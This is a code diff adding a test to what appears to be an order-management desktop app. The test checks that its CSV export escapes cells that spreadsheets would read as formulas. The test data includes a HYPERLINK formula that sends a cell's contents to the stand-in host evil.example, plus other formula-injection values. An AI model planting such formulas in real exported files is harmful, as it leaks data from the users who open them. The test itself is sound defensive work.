@@ -487,6 +487,39 @@ def test_write_csv_can_be_canceled(big_db, tmp_path) -> None:
     assert list(out.iterdir()) == []  # no half file left behind
 
 
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path) -> None:
+    from pluggto_desktop.store.jobs import OrderSummary, Store
+    from pluggto_desktop.ui.queue_model import ORDER_COLUMNS
+
+    db = tmp_path / "pluggto.db"
+    store = Store(db)
+    hostile = {
+        "p1": ('=HYPERLINK("http://evil.example/?x="&A1,"Clique")', "@SUM(1+1)"),
+        "p2": ("+55 11 99999-0000", "-2+3"),
+        "p3": ("\tTAB", "\rCR"),
+        "p4": ("Maria = Silva", "-12"),  # a sign inside the text, or a plain negative number: harmless
+    }
+    for key, (buyer, number) in hostile.items():
+        store.record_polled_order(OrderSummary(key=key, marketplace="Amazon", buyer_name=buyer,
+                                               marketplace_order_id=number, modified="m"), {"id": key})
+    store.close()
+    target = tmp_path / "x.csv"
+    assert write_csv(target, db, JobQuery(), ORDER_COLUMNS, [c.key for c in ORDER_COLUMNS], PT) == 4
+    with open(target, encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle, delimiter=";"))
+    keys = [c.key for c in ORDER_COLUMNS]
+    cells = {(r[keys.index("buyer_name")], r[keys.index("marketplace_order_id")]) for r in rows[1:]}
+    assert cells == {
+        ("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Clique\")", "'@SUM(1+1)"),
+        ("'+55 11 99999-0000", "'-2+3"),
+        ("'\tTAB", "'\rCR"),
+        ("Maria = Silva", "-12"),
+    }
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+
+
 # -- actions against the engine and the simulators -----------------------------------------------------
 def test_resend_after_the_cause_is_fixed_integrates(controller, sims, make_page, arun) -> None:
     job = arun(engine_order(controller, sims, skus=[UNKNOWN_SKU], index=1))
